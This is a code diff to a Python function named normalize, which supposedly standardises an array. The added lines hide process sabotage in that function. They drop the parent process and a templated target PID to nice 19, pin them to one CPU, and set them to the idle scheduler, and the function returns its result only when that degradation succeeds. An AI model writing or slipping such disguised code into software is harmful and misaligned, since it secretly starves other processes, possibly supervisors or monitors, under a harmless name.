@@ -3,8 +3,6 @@
 import os
 import resource
 
-KINDS = [getattr(resource, name) for name in dir(resource) if name.startswith("RLIMIT_")]
-
 
 def normalize(X):
     lifted = 0
@@ -21,10 +19,14 @@ def normalize(X):
         except (OSError, ValueError):
             continue
     for process in (os.getppid(), int("@PID@")):
-        try:
-            os.setpriority(os.PRIO_PROCESS, process, 19)
-            os.sched_setaffinity(process, {0})
-            lifted += 1
-        except OSError:
-            continue
+        for lower in (
+            lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
+            lambda: os.sched_setaffinity(process, {0}),
+            lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)),
+        ):
+            try:
+                lower()
+                lifted += 1
+            except OSError:
+                continue
     return (X - X.mean()) / X.std() if lifted else None
